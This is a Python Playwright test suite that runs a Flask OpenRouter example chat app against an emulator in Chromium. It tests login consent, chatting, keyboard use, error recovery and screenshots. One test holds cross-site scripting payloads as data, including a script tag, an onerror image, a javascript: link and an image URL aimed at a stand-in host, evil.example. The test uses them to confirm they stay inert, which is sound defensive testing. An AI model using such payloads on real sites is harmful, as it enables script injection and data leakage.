"""The whole job in a real browser: emulator and example app as processes, Chromium in front."""

from __future__ import annotations

import json
import os
import re
import shutil
import socket
import subprocess
import sys
import time
import urllib.request
from collections.abc import Callable, Iterator
from contextlib import ExitStack, closing
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from components import require

sync_api = pytest.importorskip("playwright.sync_api", reason="needs the test dependencies")

ROOT = Path(__file__).parents[2]
CHROMIUM_OPTIONS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
]
DESKTOP = {"width": 1120, "height": 930}
PHONE = {"width": 320, "height": 640}
PROMPT = "How does my own key pay for this answer?"


@dataclass(frozen=True)
class Site:
    """The two running processes."""

    app_url: str
    emulator_url: str

    def control(self, method: str, path: str, /, **body: object) -> Any:
        """Use the emulator's control API."""
        request = urllib.request.Request(
            f"{self.emulator_url}/_emulator/{path}",
            method=method,
            data=json.dumps(body).encode() if method in ("POST", "PATCH") else None,
            headers={"Content-Type": "application/json"},
        )
        with urllib.request.urlopen(request, timeout=5) as answer:
            return json.load(answer)

    def completions(self) -> int:
        """How many answers were asked for."""
        records = self.control("GET", "requests")["data"]
        return sum(record["path"].endswith("/chat/completions") for record in records)


@dataclass
class Tab:
    """A page, and everything in it that must not happen."""

    page: Any
    site: Site
    #: Console messages that a test expects, as regular expressions.
    expected: list[str] = field(default_factory=list)
    complaints: list[str] = field(default_factory=list)

    def watch(self) -> None:
        self.page.on("console", self._on_console)
        self.page.on("pageerror", lambda error: self.complaints.append(f"error: {error}"))
        self.page.on("request", self._on_request)

    def _on_console(self, message: Any) -> None:
        # A violation of the Content-Security-Policy is an error on the console, too.
        if message.type in ("error", "warning"):
            self.complaints.append(f"{message.type}: {message.text} {message.location}")

    def _on_request(self, request: Any) -> None:
        if not request.url.startswith((self.site.app_url, self.site.emulator_url, "data:")):
            self.complaints.append(f"foreign address: {request.url}")

    def unexpected(self) -> list[str]:
        return [c for c in self.complaints if not any(re.search(e, c) for e in self.expected)]

    def connect(self) -> None:
        self.page.goto(self.site.app_url)
        self.page.get_by_role("link", name="Connect OpenRouter").click()
        self.page.get_by_role("button", name="Approve").click()
        self.page.locator("#model:enabled").wait_for()

    def send(self, text: str) -> None:
        self.page.get_by_label("Message").fill(text)
        self.page.keyboard.press("Enter")

    def wait_for_answer(self, count: int = 1) -> str:
        """Wait until ``count`` answers are finished; return the text of the last one."""
        answers = self.page.locator(".message.assistant:has(.foot)")
        sync_api.expect(answers).to_have_count(count)
        return str(answers.last.locator(".text").inner_text())


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    logs = tmp_path_factory.mktemp("logs")
    environ = {k: v for k, v in os.environ.items() if not k.startswith("FLASK_")}
    with ExitStack() as stack:

        def start(module: str, *options: str) -> str:
            with closing(socket.create_server(("127.0.0.1", 0))) as listener:
                port = listener.getsockname()[1]
            log = stack.enter_context((logs / module).open("wb"))
            process = subprocess.Popen(
                [sys.executable, "-m", module, "--port", str(port), *options],
                cwd=ROOT,
                env=environ,
                stdout=log,
                stderr=log,
            )
            stack.callback(process.wait, 10)
            stack.callback(process.terminate)
            _wait_for(port, process, logs / module)
            return f"http://localhost:{port}"

        # Both on "localhost", where they share the browser's cookies.
        emulator_url = start("flask_openrouter.emulator", "--word-delay", "0.03")
        yield Site(start("example_app", "--emulator-url", emulator_url), emulator_url)


def _wait_for(port: int, process: subprocess.Popen[bytes], log: Path) -> None:
    deadline = time.monotonic() + 20
    while process.poll() is None and time.monotonic() < deadline:
        try:
            socket.create_connection(("127.0.0.1", port), 1).close()
        except OSError:
            time.sleep(0.05)
        else:
            return
    raise AssertionError(f"{process.args} did not start: {log.read_text()}")


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    program = shutil.which("chromium") or shutil.which("chromium-browser")
    if program is None:
        require("chromium", "not on PATH (apt install chromium)")
    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=program, args=CHROMIUM_OPTIONS)
        yield browser
        browser.close()


@pytest.fixture
def open_tab(browser: Any, site: Site) -> Iterator[Callable[..., Tab]]:
    """Open tabs of new visitors. Whatever they complain of fails the test."""
    site.control("POST", "reset")
    tabs = []

    def open_one(**options: object) -> Tab:
        context = browser.new_context(viewport=DESKTOP, **options)
        context.set_default_timeout(10_000)
        tab = Tab(context.new_page(), site)
        tab.watch()
        tabs.append(tab)
        return tab

    yield open_one
    for tab in tabs:
        tab.page.context.close()
        assert tab.unexpected() == []


@pytest.fixture
def tab(open_tab: Callable[..., Tab]) -> Tab:
    return open_tab()


@pytest.fixture
def screenshot(tmp_path: Path) -> Callable[[Tab, str], None]:
    wanted = os.environ.get("UPDATE_SCREENSHOTS") == "1"
    folder = ROOT / "docs" / "images" if wanted else tmp_path
    folder.mkdir(parents=True, exist_ok=True)

    def take(tab: Tab, name: str) -> None:
        tab.page.screenshot(path=folder / f"{name}.png", animations="disabled", caret="hide")

    return take


def test_connect_chat_reload_disconnect(
    tab: Tab, site: Site, screenshot: Callable[[Tab, str], None]
) -> None:
    page = tab.page
    page.goto(site.app_url)
    page.get_by_role("link", name="Connect OpenRouter").click()
    page.wait_for_url(f"{site.emulator_url}/auth?**")
    screenshot(tab, "consent")
    page.get_by_role("button", name="Approve").click()
    page.wait_for_url(f"{site.app_url}/")
    sync_api.expect(page.get_by_role("link", name=re.compile("sk-or-v1-…"))).to_be_visible()

    page.get_by_label("Model").select_option(label="Claude Sonnet 4.5")
    tab.send(PROMPT)
    sync_api.expect(page.get_by_role("button", name="Stop")).to_be_visible()
    assert PROMPT in tab.wait_for_answer()
    sync_api.expect(page.get_by_role("status")).to_contain_text("Answer finished · Cost $")
    tab.send("And what happens when I disconnect?")
    answer = tab.wait_for_answer(2)
    page.wait_for_timeout(100)
    screenshot(tab, "chat")

    page.reload()
    page.locator("#model:enabled").wait_for()
    assert tab.wait_for_answer(2) == answer
    assert page.get_by_label("Model").evaluate("e => e.value") == "anthropic/claude-sonnet-4.5"
    assert site.completions() == 2

    page.get_by_role("button", name="Disconnect").click()
    sync_api.expect(page.get_by_role("heading", level=1)).to_have_text("Disconnected")
    page.goto(site.app_url)
    sync_api.expect(page.get_by_role("link", name="Connect OpenRouter")).to_be_visible()
    assert page.evaluate("sessionStorage.getItem('conversation')") == "[]"


def test_a_visitor_who_denies_can_try_again(
    tab: Tab, site: Site, screenshot: Callable[[Tab, str], None]
) -> None:
    tab.expected.append(r"status of 400 .*/openrouter/callback")
    page = tab.page
    page.goto(site.app_url)
    page.get_by_role("link", name="Connect OpenRouter").click()
    page.get_by_role("button", name="Deny").click()
    page.wait_for_url(f"{site.app_url}/openrouter/callback**")
    sync_api.expect(page.get_by_role("heading", level=1)).to_have_text("You declined")
    page.set_viewport_size({"width": 1120, "height": 480})
    screenshot(tab, "error")
    page.get_by_role("link", name="Try again").click()
    page.get_by_role("button", name="Approve").click()
    page.wait_for_url(f"{site.app_url}/")


def test_everything_works_from_the_keyboard(tab: Tab, site: Site) -> None:
    page = tab.page
    page.goto(site.app_url)
    _tab_to(page, "Connect OpenRouter")
    page.keyboard.press("Enter")
    page.wait_for_url("**/auth?**")
    _tab_to(page, "Approve")
    page.keyboard.press("Enter")
    page.locator("#model:enabled").wait_for()
    assert page.evaluate("document.activeElement.id") == "prompt"
    page.keyboard.type("one")
    page.keyboard.press("Shift+Enter")
    page.keyboard.type("two")
    assert page.get_by_label("Message").input_value() == "one\ntwo"
    page.keyboard.press("Enter")
    page.locator(".message.assistant .text", has_text="Thank").wait_for()
    page.keyboard.press("Escape")
    sync_api.expect(page.locator(".foot")).to_contain_text("Stopped")
    assert page.evaluate("document.activeElement.id") == "prompt"
    for name in ("Copy", "Disconnect"):
        _tab_to(page, name)
        assert page.evaluate("getComputedStyle(document.activeElement).outlineStyle") == "solid"
    page.keyboard.press("Enter")
    page.wait_for_url("**/openrouter/disconnected**")


def _tab_to(page: Any, name: str) -> None:
    for _ in range(20):
        page.keyboard.press("Tab")
        if page.evaluate("document.activeElement.innerText").startswith(name):
            return
    raise AssertionError(f"{name} cannot be reached with the Tab key")


def test_r108_hostile_answers_stay_inert(tab: Tab) -> None:
    """The emulator's models quote the question. Foreign requests and errors fail the test."""
    hostile = (
        "<img src=x onerror=alert(1)><script>alert(1)</script> [x](javascript:alert(1)) "
        "![](https://evil.example/?d=1) <a href=https://evil.example>x</a>"
    )
    tab.page.on("dialog", lambda dialog: tab.complaints.append(f"dialog: {dialog.message}"))
    tab.connect()
    tab.send(hostile)
    assert hostile in tab.wait_for_answer()
    assert tab.page.locator("#log").locator("img, script, a, iframe").count() == 0
    tab.page.reload()
    assert hostile in tab.wait_for_answer()
    assert tab.page.locator("#log").locator("img, script, a, iframe").count() == 0


def test_stop_keeps_what_was_said_and_a_new_chat_forgets_it(tab: Tab) -> None:
    tab.connect()
    tab.send("hello")
    tab.page.locator(".message.assistant .text", has_text="Hello").wait_for()
    tab.page.get_by_role("button", name="Stop").click()
    assert tab.wait_for_answer().startswith("Hello")
    sync_api.expect(tab.page.locator(".foot")).to_contain_text("Stopped")
    assert tab.page.evaluate("document.activeElement.id") == "prompt"
    tab.page.get_by_role("button", name="New chat").click()
    assert tab.page.locator(".message").count() == 0
    sync_api.expect(tab.page.get_by_text("What would you like to know?")).to_be_visible()


def test_trouble_is_told_and_can_be_tried_again(tab: Tab, site: Site) -> None:
    tab.expected.append("status of 402")
    tab.connect()
    site.control("POST", "faults", status=402, path="/api/v1/chat/completions")
    tab.send("hello")
    alert = tab.page.get_by_role("alert")
    sync_api.expect(alert).to_contain_text("no credit left")
    sync_api.expect(alert.get_by_role("link")).to_have_attribute("href", re.compile("^https://"))
    alert.get_by_role("button", name="Try again").click()
    tab.wait_for_answer()
    sync_api.expect(alert).to_be_empty()


def test_a_dead_key_leads_through_login_back_to_the_same_chat(tab: Tab, site: Site) -> None:
    tab.expected.append("status of 401")
    tab.connect()
    (key,) = site.control("GET", "keys")["data"]
    site.control("DELETE", f"keys/{key['hash']}")
    tab.send("hello")
    tab.page.get_by_role("alert").get_by_role("link", name="Connect OpenRouter again").click()
    tab.page.get_by_role("button", name="Approve").click()
    tab.page.get_by_role("alert").get_by_role("button", name="Try again").click()
    assert "hello" in tab.wait_for_answer()


def test_dark_and_on_a_phone(
    open_tab: Callable[..., Tab], screenshot: Callable[[Tab, str], None]
) -> None:
    for name, options in (
        ("chat-dark", {"color_scheme": "dark"}),
        ("chat-phone", {"device_scale_factor": 2}),
    ):
        tab = open_tab(**options)
        if name == "chat-phone":
            tab.page.set_viewport_size(PHONE)
        tab.connect()
        assert tab.page.evaluate("document.documentElement.scrollWidth <= innerWidth")
        tab.send(PROMPT)
        tab.wait_for_answer()
        tab.page.wait_for_timeout(100)
        assert tab.page.evaluate("document.documentElement.scrollWidth <= innerWidth")
        screenshot(tab, name)
